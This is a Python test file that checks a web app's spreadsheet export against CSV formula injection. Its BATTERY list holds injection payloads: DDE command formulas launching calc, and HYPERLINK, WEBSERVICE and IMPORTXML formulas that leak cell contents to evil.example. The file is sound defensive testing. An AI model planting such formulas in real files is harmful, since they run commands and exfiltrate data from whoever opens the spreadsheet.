"""No file for a spreadsheet holds a cell that is calculated. See inbox/test_volunteers_csv.py too."""

import ast

import pytest

from contact.inbox.spreadsheet import spreadsheet
from tests.attacks.reading import imported, sources, trees

# Kinds of answers that a spreadsheet opens by itself.
OPENED_BY_SPREADSHEETS = (
    "text/csv",
    "tab-separated",
    "ms-excel",
    "spreadsheetml",
    "opendocument",
    ".xls",
    ".tsv",
    ".ods",
)
BATTERY = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    '=WEBSERVICE("https://evil.example/"&A2)',
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    '"=1',
    "x;=1",
    "x\n=1",
    "x\r=1",
    "x\u2028=1",
    "＝1",
    "\u200b=1",
    "\ufeff=1",
    "\0=1",
    "%0A-1",
    "=1\r\n=2",
]


def test_there_is_one_place_that_makes_such_files_and_it_defuses_them():
    making = [path for path, tree in trees() if "csv" in imported(tree)]
    assert making == ["contact/inbox/spreadsheet.py"]
    calling = sorted(path for path, text in sources() if "spreadsheet(" in text and path not in making)
    assert calling == ["contact/inbox/views/volunteers.py"]


def test_no_answer_says_that_it_is_one_in_another_way():
    """Nor does the admin offer an export of its own."""
    found = []
    for path, tree in trees():
        for node in ast.walk(tree):
            if isinstance(node, ast.Constant) and isinstance(node.value, str):
                words = node.value.lower()
                if len(words) < 80 and any(kind in words for kind in OPENED_BY_SPREADSHEETS):
                    found.append(path)
    assert found == ["contact/inbox/spreadsheet.py"]


@pytest.mark.parametrize("cell", BATTERY)
@pytest.mark.parametrize("separator", [";", "\t"])
def test_whatever_a_program_separates_by_it_finds_no_formula(cell, separator):
    text = spreadsheet([["Name", "Words"], ["Ana", cell], [cell, "Maps"]]).decode("utf-8-sig")
    # The crudest of all programs: it takes every separator for one, and no quote for one.
    pieces = [piece for line in text.splitlines() for piece in line.split(separator)]
    assert not [
        piece for piece in pieces if piece.strip(' "\u200b\ufeff\0').startswith(("=", "+", "-", "@", "＝", "%", "|"))
    ]
